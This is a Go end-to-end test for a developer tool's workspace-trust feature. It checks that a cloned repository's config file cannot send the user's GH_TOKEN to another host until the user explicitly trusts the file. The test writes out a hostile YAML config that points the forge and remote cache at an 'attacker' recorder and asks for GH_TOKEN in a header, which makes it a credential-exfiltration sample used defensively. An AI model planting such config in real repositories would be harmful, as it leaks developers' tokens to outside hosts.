package e2e

import (
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// recorder is a server on another loopback address that notes the
// headers of every request: the host a hostile repository names.
type recorder struct {
	*httptest.Server
	mu      sync.Mutex
	headers []http.Header
}

func newRecorder(t *testing.T, ip string) *recorder {
	t.Helper()
	ln, err := net.Listen("tcp", ip+":0")
	if err != nil {
		t.Skipf("cannot listen on %s (a second loopback address): %v", ip, err)
	}
	r := &recorder{}
	r.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.headers = append(r.headers, req.Header.Clone())
		r.mu.Unlock()
		http.NotFound(w, req)
	}))
	r.Listener = ln
	r.Start()
	t.Cleanup(r.Close)
	return r
}

// carrying lists the headers, over every request so far, whose value
// holds secret, as "Name: value".
func (r *recorder) carrying(secret string) []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []string
	for _, h := range r.headers {
		for name, vals := range h {
			for _, v := range vals {
				if strings.Contains(v, secret) {
					out = append(out, name+": "+v)
				}
			}
		}
	}
	return out
}

// TestAWorkspaceConfigGetsNoCredentialUntilTrusted is issue 30's story with
// the real binary: a cloned repository's .core/config.yaml names a forge
// and a remote cache on another host (127.0.0.2) and asks for GH_TOKEN in a
// header. Nothing that carries the token arrives there, from `core run` or
// from the server's review of the branch, until the user runs `core config
// trust`; the user's own forge setting is honoured all along. After the
// trust, the token arrives: the file's values apply.
func TestAWorkspaceConfigGetsNoCredentialUntilTrusted(t *testing.T) {
	t.Parallel()
	const secret = "ghp_e2eTRUSTtokenTRUSTtokenTRUSTtoken0000"
	attacker := newRecorder(t, "127.0.0.2")
	forge := recordedForge(t) // the user's own, in the user's own config file

	ws := copyDemo(t)
	wsGitInit(t, ws)
	wsGit(t, ws, "checkout", "-q", "-b", "ricardo-add-pr-create-comment-reply")
	wsGit(t, ws, "remote", "add", "origin", "https://github.com/rsn491/PyGithub.git")
	hostile := "forge:\n  api_url: " + attacker.URL + "/\n" +
		"cache:\n  remote:\n    url: " + attacker.URL + "/cache\n    header: X-Api-Key\n    header_env: GH_TOKEN\n"
	writeTestFile(t, filepath.Join(ws, ".core", "config.yaml"), hostile)

	home := t.TempDir()
	writeTestFile(t, filepath.Join(home, ".config", "core", "config.yaml"), "forge:\n  api_url: "+forge.URL+"/\n")
	env := []string{"HOME=" + home, "XDG_CONFIG_HOME=" + filepath.Join(home, ".config"), "XDG_STATE_HOME=" + filepath.Join(home, "state"), "GH_TOKEN=" + secret}
	_, tok := createToken(t, ws)
	review := func(t *testing.T) string {
		t.Helper()
		s := startServer(t, ws, env...)
		defer s.Stop()
		r := get(t, s.URL+"/api/v1/diff/review", tok)
		if r.Status != http.StatusOK {
			t.Fatalf("diff/review: %s", r)
		}
		return string(r.Body)
	}

	t.Run("untrusted, the token goes nowhere the file names", func(t *testing.T) {
		res := mustCore(t, ws, env, "run", "util:fmt-check")
		if n := strings.Count(res.Stderr, "core: warning:"); n != 1 || !strings.Contains(res.Stderr, "core config trust") || !strings.Contains(res.Stderr, "cache.remote.url") {
			t.Errorf("want one warning naming cache.remote.url and `core config trust`:\n%s", res)
		}
		if body := review(t); !strings.Contains(body, `"state":"ok"`) {
			t.Errorf("the user's own forge was not asked: %s", body)
		}
		if got := attacker.carrying(secret); len(got) > 0 {
			t.Fatalf("the token reached the host the workspace file names: %q", got)
		}
		if res := mustCore(t, ws, env, "doctor"); !strings.Contains(res.Stdout, "is not trusted") {
			t.Errorf("doctor does not say the file is untrusted:\n%s", res)
		}
	})

	t.Run("core config trust makes the file's values apply", func(t *testing.T) {
		res := mustCore(t, ws, env, "config", "trust")
		if !strings.Contains(res.Stdout, "trusted ") || !strings.Contains(res.Stdout, "cache.remote.header_env = \"GH_TOKEN\"") {
			t.Fatalf("config trust:\n%s", res)
		}
		if res := mustCore(t, ws, env, "doctor"); !strings.Contains(res.Stdout, "is trusted") {
			t.Errorf("doctor does not say the file is trusted:\n%s", res)
		}
		// A changed input misses the local cache, so the remote is asked.
		appendTestFile(t, filepath.Join(ws, "libs", "util", "slug.go"), "\n// touched after the trust\n")
		mustCore(t, ws, env, "run", "util:fmt-check")
		if got := attacker.carrying(secret); len(got) == 0 {
			t.Errorf("after the trust, no cache request carried the header the file asks for")
		}
		review(t)
		var bearer bool
		for _, h := range attacker.carrying(secret) {
			bearer = bearer || strings.HasPrefix(h, "Authorization: Bearer ")
		}
		if !bearer {
			t.Errorf("after the trust, the forge the file names was not asked with the token: %q", attacker.carrying(secret))
		}
	})
}

func writeTestFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

func appendTestFile(t *testing.T, path, content string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(content); err != nil {
		t.Fatal(err)
	}
}
